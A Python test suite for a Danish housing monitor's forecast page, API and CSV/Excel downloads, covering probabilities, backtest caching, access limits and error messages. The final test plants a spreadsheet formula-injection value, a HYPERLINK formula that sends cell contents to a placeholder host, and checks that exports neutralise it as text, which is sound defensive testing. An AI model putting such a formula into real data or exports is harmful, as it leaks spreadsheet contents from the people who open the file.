"""The forecast page, its JSON twin, downloads and /api/forecast: the same probabilities as `boligmonitor forecast` on
the bundle, labelled as a computation and never as an official list, the backtest on the page (computed once per
vintage and kept), server-drawn charts, and the public limited to the latest list's forecast."""

from __future__ import annotations

import csv
import html
import io
import xml.etree.ElementTree as ET
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from boligmonitor import api
from boligmonitor.forecast.backtest import backtest
from boligmonitor.forecast.data import from_bundle
from boligmonitor.forecast.lists import forecast
from boligmonitor.rules.texts import number
from boligmonitor.web import forecast_page
from boligmonitor.web import models as m

SVG = "{http://www.w3.org/2000/svg}"


@pytest.mark.parametrize("query,as_of,horizon", [("", None, 3), ("?as_of=2020&horizon=2", 2020, 2)])
def test_the_twin_has_the_clis_probabilities(client_for: Any, synth_bundle: Path, query: str, as_of: int | None,
                                             horizon: int) -> None:
    c = client_for("analyst")
    data = c.get(f"/forecast.json{query}").json()
    core = forecast(from_bundle(api.open_bundle(synth_bundle)), as_of, horizon, 1000, 1)
    assert data["as_of"] == core.as_of and data["list_years"] == core.list_years
    got = {(r["area_id"], r["list_year"], r["category"]): (r["probability"], r["p_undetermined"], r["member_as_of"])
           for r in data["rows"]}
    assert got == {(r["area_id"], r["list_year"], r["category"]):
                   (round(r["probability"], 4), round(r["p_undetermined"], 4), r["member_as_of"]) for r in core.rows}
    assert all({"area_id", "list_year", "category", "probability"} <= r.keys() for r in data["rows"])
    assert c.get(f"/api/forecast{query}").json() == data


def test_the_page_shows_the_twins_numbers(client_for: Any) -> None:
    c = client_for("analyst")
    data = c.get("/forecast.json").json()
    r = c.get("/forecast/")
    page = html.unescape(r.content.decode())
    shown = {(a["area_id"], x["category"]): [None if cell is None else cell["text"] for cell in x["cells"]]
             for a in r.context["areas"] for x in a["lists"]}
    listed = 0
    for row in data["rows"]:
        key = (row["area_id"], row["category"])
        if row["probability"] > 0 or row["member_as_of"] or row["p_undetermined"] > 0:
            listed += 1
            text = shown[key][data["list_years"].index(row["list_year"])]
            assert text == number(row["probability"] * 100, 1, "da") + " %"
        else:
            assert key not in shown or shown[key][data["list_years"].index(row["list_year"])] == "0,0 %"
    assert listed, "no probability above 0 on the page: the test would check nothing"
    for a in {row["name"] for row in data["rows"]}:
        assert a in page
    for s in data["summary"]:
        assert s["category_label"] in page
    assert data["computed"] in page and "ikke en officiel liste" in data["computed"]
    for sentence in data["method"]["text"]:
        assert sentence in page


def test_the_backtest_is_the_cores_and_drawn_on_the_page(client_for: Any, synth_bundle: Path) -> None:
    c = client_for("analyst")
    bt = c.get("/forecast.json").json()["backtest"]
    core = backtest(from_bundle(api.open_bundle(synth_bundle)), forecast_page.BACKTEST_HORIZON,
                    forecast_page.BACKTEST_FUTURES, forecast_page.SEED)
    for row in bt["by_horizon"]:
        expected = core.brier(row["horizon"])
        assert row["n"] == expected["n"] and row["forecast"] == pytest.approx(expected["forecast"])
        assert row["persistence"] == pytest.approx(expected["persistence"])
    assert [b["n"] for b in bt["calibration"]] == [b["n"] for b in core.calibration()]
    page = c.get("/forecast/").content.decode()
    charts = []
    start = 0
    while (start := page.find('<svg xmlns="http://www.w3.org/2000/svg" viewBox', start)) >= 0:
        end = page.index("</svg>", start) + 6
        charts.append(ET.fromstring(page[start:end]))
        start = end
    assert len(charts) == 2
    brier, calibration = charts
    bars = [r for r in brier.findall(f"{SVG}rect") if r.find(f"{SVG}title") is not None]  # not the legend's
    assert len(bars) == 2 * sum(1 for r in bt["by_horizon"] if r["n"])
    assert len(calibration.findall(f"{SVG}circle")) == sum(1 for b in bt["calibration"] if b["n"])
    assert "<script" not in page and "cdn" not in page.lower()


def test_the_backtest_is_computed_once_per_vintage_and_kept(client_for: Any,
                                                            monkeypatch: pytest.MonkeyPatch) -> None:
    forecast_page._backtest_raw.cache_clear()  # an earlier test's transaction (and stored copy) is gone
    c = client_for("public")
    first = c.get("/forecast.json").json()["backtest"]
    assert m.ExportCache.objects.count() == 1
    forecast_page._backtest_raw.cache_clear()  # as another worker: it must read the stored copy

    def fail(*args: Any, **kwargs: Any) -> None:
        raise AssertionError("the backtest was computed again")

    monkeypatch.setattr(forecast_page, "backtest", fail)
    assert c.get("/forecast.json").json()["backtest"] == first


def test_a_forecast_is_computed_once_per_vintage_as_of_and_horizon(client_for: Any,
                                                                    monkeypatch: pytest.MonkeyPatch) -> None:
    calls: list[tuple[Any, ...]] = []
    real = forecast_page.forecast

    def counting(*args: Any, **kwargs: Any) -> Any:
        calls.append(args[1:])
        return real(*args, **kwargs)

    monkeypatch.setattr(forecast_page, "forecast", counting)
    forecast_page._forecast.cache_clear()
    c = client_for("analyst")
    for url in ("/forecast.json?horizon=1", "/forecast/?horizon=1", "/forecast.csv?horizon=1",
                "/api/forecast?horizon=1&municipality=101"):
        assert c.get(url).status_code == 200
    assert len(calls) == 1
    c.get("/forecast.json?horizon=2")
    assert len(calls) == 2


def test_the_public_gets_the_latest_lists_forecast_only(client_for: Any) -> None:
    v = m.Vintage.objects.get(published=True)
    public, analyst = client_for("public"), client_for("analyst")
    earlier = f"as_of={v.last_list_year - 3}"
    assert public.get("/forecast.json").status_code == 200
    r = public.get(f"/forecast.json?{earlier}")
    assert r.status_code == 403 and "log" in r.json()["error"]["message"].lower()
    assert public.get(f"/api/forecast?{earlier}").status_code == 403
    assert public.get(f"/forecast.csv?{earlier}").status_code == 403
    assert public.get(f"/forecast/?{earlier}").status_code == 302  # to the login page
    assert public.get("/forecast.json").json()["as_of_years"] == [v.last_list_year]
    assert analyst.get(f"/forecast.json?{earlier}").status_code == 200


def test_bad_input_is_a_clear_answer(client_for: Any) -> None:
    c = client_for("analyst")
    r = c.get("/forecast.json?horizon=4")
    assert r.status_code == 404 and "1, 2 eller 3" in r.json()["error"]["message"]
    assert "1, 2 or 3" in c.get("/forecast.json?horizon=9&lang=en").json()["error"]["message"]
    assert c.get("/forecast.json?as_of=1999").status_code == 404
    assert c.get("/forecast.json?category=nosuchlist").status_code == 404
    assert c.get("/forecast.json?page=50").status_code == 404
    assert c.get("/forecast.json?horizon=x").status_code == 400
    assert c.get("/api/forecast?horizon=0").status_code == 404


def test_downloads_and_languages(client_for: Any) -> None:
    c = client_for("analyst")
    data = c.get("/forecast.json?horizon=1").json()
    text = c.get("/forecast.csv?horizon=1").content.decode("utf-8-sig")
    lines = text.splitlines()
    assert lines[0].startswith("# SYNTETISKE DATA") and "ikke en officiel liste" in lines[0]
    table = list(csv.DictReader(io.StringIO("\n".join(lines[1:])), delimiter=";"))
    assert [(r["Område-id"], r["Kategori-id"]) for r in table] == [(r["area_id"], r["category"])
                                                                   for r in data["rows"]]
    assert [r["Sandsynlighed"] for r in table] == [f"{r['probability']:.4f}".rstrip("0").rstrip(".").replace(".", ",")
                                                  for r in data["rows"]]
    wb = load_workbook(io.BytesIO(c.get("/forecast.xlsx?horizon=1&lang=en").content))
    ws = wb.active
    assert ws is not None and [x.value for x in ws[2]][:4] == ["Area id", "Name", "Municipality", "List year"]
    assert "not an official list" in str(ws["A1"].value)
    assert "About the data" in wb.sheetnames
    en = html.unescape(c.get("/forecast/?lang=en").content.decode())
    assert "Forecast of the lists" in en and "How far to trust it" in en and "not an official list" in en
    da = html.unescape(c.get("/forecast/").content.decode())
    assert "Fremskrivning af listerne" in da and "Backtest" in da and "samme som sidste år" in da


def test_a_name_that_looks_like_a_formula_stays_text(client_for: Any, synth_bundle: Path, tmp_path: Path) -> None:
    from boligmonitor.web.actions import import_bundle
    from tests.web.bundles import copy_bundle, edit_json, reseal

    evil = '=HYPERLINK("http://example.invalid/?"&A1,"Klik")'
    b = copy_bundle(synth_bundle, tmp_path / "b")

    def rename(reg: dict[str, Any]) -> None:
        next(a for a in reg["areas"] if a["kind"] == "statutory")["name"] = evil

    v = import_bundle(reseal(edit_json(b, "registry.json", rename), note="formula")).vintage
    c = client_for("analyst")
    for url in (f"/watchlist.xlsx?vintage={v.pk}", f"/forecast.xlsx?vintage={v.pk}&horizon=1"):
        ws = load_workbook(io.BytesIO(c.get(url).content)).active
        assert ws is not None
        cells = [cell for row in ws.iter_rows() for cell in row if cell.value == evil]
        assert cells and all(cell.data_type == "s" for cell in cells), url
    for url in (f"/watchlist.csv?vintage={v.pk}", f"/forecast.csv?vintage={v.pk}&horizon=1"):
        names = [row[1] for row in csv.reader(io.StringIO(c.get(url).content.decode("utf-8-sig")), delimiter=";")
                 if len(row) > 1]
        assert "'" + evil in names and evil not in names, url
